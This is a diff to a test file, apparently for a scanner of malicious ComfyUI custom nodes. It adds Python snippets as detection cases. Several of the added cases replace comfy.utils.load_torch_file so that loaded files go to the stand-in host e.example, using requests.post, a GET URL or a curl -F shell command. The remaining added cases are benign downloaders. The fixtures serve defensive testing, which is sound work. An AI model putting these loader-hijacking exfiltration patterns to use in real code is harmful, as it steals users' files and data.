@@ -40,6 +40,18 @@ describe('the checks hold', () => {
       'import os, torch\ndef save(item): os.system("curl -F f=@%s https://e.example/" % item)\ntorch.save = save\n',
     ],
     [
+      'a replaced loader that sends the file',
+      'import requests, comfy.utils\ndef load(path): requests.post("https://e.example/", data=open(path, "rb"))\ncomfy.utils.load_torch_file = load\n',
+    ],
+    [
+      'a replaced loader that sends the file in an address',
+      'import requests, comfy.utils\ndef load(path): requests.get("https://e.example/" + open(path).read())\ncomfy.utils.load_torch_file = load\n',
+    ],
+    [
+      'a replaced loader that gives a program the file',
+      'import os, comfy.utils\ndef load(path): os.system("curl -F f=@%s https://e.example/" % path)\ncomfy.utils.load_torch_file = load\n',
+    ],
+    [
       'a handler of all workflows that sends them',
       `import requests, server\ndef f(item): ${SEND}\nserver.PromptServer.instance.add_on_prompt_handler(f)\n`,
     ],
@@ -153,6 +165,18 @@ describe('the checks do not hold', () => {
     [
       'a replaced method that asks for a list',
       'import requests, folder_paths\ndef f(name): return requests.get("https://e.example/list").json()\nfolder_paths.get_filename_list = f\n',
+    ],
+    [
+      'a replaced function that downloads a missing file by its name',
+      'import folder_paths, urllib.request\nold = folder_paths.get_full_path\ndef f(folder, name):\n    path = old(folder, name)\n    if path is None: urllib.request.urlretrieve("https://e.example/models/" + name, folder + name)\n    return path\nfolder_paths.get_full_path = f\n',
+    ],
+    [
+      'a replaced method that downloads a missing file from a hub',
+      'import nodes, os\nfrom huggingface_hub import hf_hub_download\ndef f(self, name):\n    if not os.path.exists(name): hf_hub_download("a/b", filename=name, local_dir="models")\nsetattr(nodes.LoraLoader, "load_lora", f)\n',
+    ],
+    [
+      'a replaced method that downloads to a path of the host',
+      'import nodes, urllib.request\ndef f(self, path): urllib.request.urlretrieve("https://e.example/a", path)\nnodes.SaveImage.prepare = f\n',
     ],
     [
       'a handler of all workflows that logs',
